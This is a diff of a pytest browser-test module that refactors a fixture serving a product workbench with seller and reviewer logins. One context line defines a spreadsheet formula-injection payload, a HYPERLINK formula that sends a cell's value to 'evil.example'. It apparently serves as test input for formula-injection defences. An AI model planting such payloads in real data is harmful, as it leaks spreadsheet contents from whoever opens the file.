@@ -11,9 +11,8 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from _hostile_setup import CHROMIUM, Watched, chromium, free_port, wait_port
-from workbench.security import auth
-from workbench.security.login import serve_options
+from _browser import add_users, require_chromium, serve_in_thread
+from _hostile_setup import Watched, chromium
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
@@ -26,25 +25,15 @@ FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click") Puma Tee'
 @pytest.fixture(scope="module")
 def served(sample_workspace, tmp_path_factory):
     """1,200 real fashion products with a tfidf run, served with login for a seller and a reviewer."""
-    if not Path(CHROMIUM).exists():
-        pytest.skip("headless Chromium is not installed at /usr/bin/chromium")
-    from workbench.app.serve import serve_app
+    require_chromium()
     from workbench.runs.training import train_models
 
     ws = sample_workspace("seller_browser", 1200, seed=5)
     train_models(ws, ["tfidf"], "grouped", seed=0)
     creds = tmp_path_factory.mktemp("seller_creds") / "credentials.json"
-    old = auth.BCRYPT_ROUNDS
-    auth.BCRYPT_ROUNDS = 6
-    try:
-        for name, (password, role) in USERS.items():
-            auth.add_user(creds, name, password, role)
-    finally:
-        auth.BCRYPT_ROUNDS = old
-    port = free_port()
-    server = serve_app(ws.path, port=port, threaded=True, auth=serve_options(creds), roles=auth.RolesFile(creds))
-    wait_port(port)
-    yield ws, f"http://127.0.0.1:{port}"
+    add_users(creds, USERS)
+    server, url = serve_in_thread(ws.path, creds)
+    yield ws, url
     server.stop()
 
 
